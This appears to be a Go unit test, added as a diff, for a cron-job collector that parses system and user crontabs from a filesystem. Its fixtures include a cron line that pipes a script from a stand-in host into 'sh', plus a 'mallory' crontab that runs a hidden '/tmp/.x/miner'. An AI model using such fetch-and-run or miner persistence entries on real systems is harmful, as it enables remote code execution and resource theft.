@@ -0,0 +1,57 @@
+package collector
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestParseCrontab(t *testing.T) {
+	system := `SHELL=/bin/sh
+PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin
+# m h dom mon dow user	command
+17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
+@reboot  root  /usr/local/bin/on-boot.sh --quiet
+*/5 * * * *
+`
+	assert.Equal(t, []CronJob{
+		{Source: "/etc/crontab", User: "root", Schedule: "17 * * * *", Command: "cd / && run-parts --report /etc/cron.hourly"},
+		{Source: "/etc/crontab", User: "root", Schedule: "@reboot", Command: "/usr/local/bin/on-boot.sh --quiet"},
+	}, parseCrontab(system, "/etc/crontab", ""), "the job without a user or command is skipped")
+
+	user := "MAILTO=\"\"\n0 3 * * 1 curl -s http://x.example/p.sh | sh\n@hourly /home/app/bin/sync\n"
+	assert.Equal(t, []CronJob{
+		{Source: "/var/spool/cron/crontabs/app", User: "app", Schedule: "0 3 * * 1", Command: "curl -s http://x.example/p.sh | sh"},
+		{Source: "/var/spool/cron/crontabs/app", User: "app", Schedule: "@hourly", Command: "/home/app/bin/sync"},
+	}, parseCrontab(user, "/var/spool/cron/crontabs/app", "app"))
+}
+
+func TestRootFS_CronJobs(t *testing.T) {
+	root := t.TempDir()
+	writeTree(t, root, map[string]string{
+		"etc/crontab":                     "0 4 * * * root /usr/sbin/backup\n",
+		"etc/cron.d/certbot":              "0 */12 * * * root certbot -q renew\n",
+		"etc/cron.d/certbot.dpkg-old":     "0 0 * * * root old\n",
+		"etc/cron.d/.placeholder":         "",
+		"etc/cron.daily/logrotate":        "#!/bin/sh\n",
+		"var/spool/cron/crontabs/mallory": "* * * * * /tmp/.x/miner\n",
+	})
+	jobs, err := NewRootFS(root).CollectCronJobs(context.Background())
+	require.NoError(t, err)
+	assert.Equal(t, []CronJob{
+		{Source: "/etc/crontab", User: "root", Schedule: "0 4 * * *", Command: "/usr/sbin/backup"},
+		{Source: "/etc/cron.d/certbot", User: "root", Schedule: "0 */12 * * *", Command: "certbot -q renew"},
+		{Source: "/etc/cron.daily", User: "root", Schedule: "@daily", Command: "/etc/cron.daily/logrotate"},
+		{Source: "/var/spool/cron/crontabs/mallory", User: "mallory", Schedule: "* * * * *", Command: "/tmp/.x/miner"},
+	}, jobs, "Debian's crontabs directory under /var/spool/cron isn't read as a crontab")
+
+	empty := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(empty, "etc"), 0o755))
+	jobs, err = NewRootFS(empty).CollectCronJobs(context.Background())
+	assert.NoError(t, err)
+	assert.Empty(t, jobs)
+}